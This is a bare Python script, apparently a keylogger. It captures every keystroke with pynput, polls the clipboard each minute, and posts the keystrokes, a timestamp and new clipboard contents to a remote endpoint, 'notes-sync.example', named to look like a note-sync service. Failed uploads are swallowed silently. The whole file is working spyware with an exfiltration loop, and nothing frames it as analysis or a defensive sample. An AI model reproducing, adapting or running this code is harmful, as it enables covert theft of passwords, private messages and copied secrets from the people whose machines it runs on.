from datetime import datetime
import threading
import time

import pyperclip
import requests
from pynput import keyboard

buf = []
last = ""


def on_press(key):
    try:
        buf.append(key.char)
    except AttributeError:
        buf.append(f"<{key.name}>")


def pump():
    global last
    while True:
        time.sleep(60)
        cur = pyperclip.paste()
        payload = {"t": datetime.now().isoformat(), "k": "".join(map(str, buf))}
        if cur != last:
            payload["c"] = last = cur
        buf.clear()
        try:
            requests.post("https://notes-sync.example/in", json=payload, timeout=5)
        except requests.RequestException:
            pass


threading.Thread(target=pump, daemon=True).start()
with keyboard.Listener(on_press=on_press) as l:
    l.join()
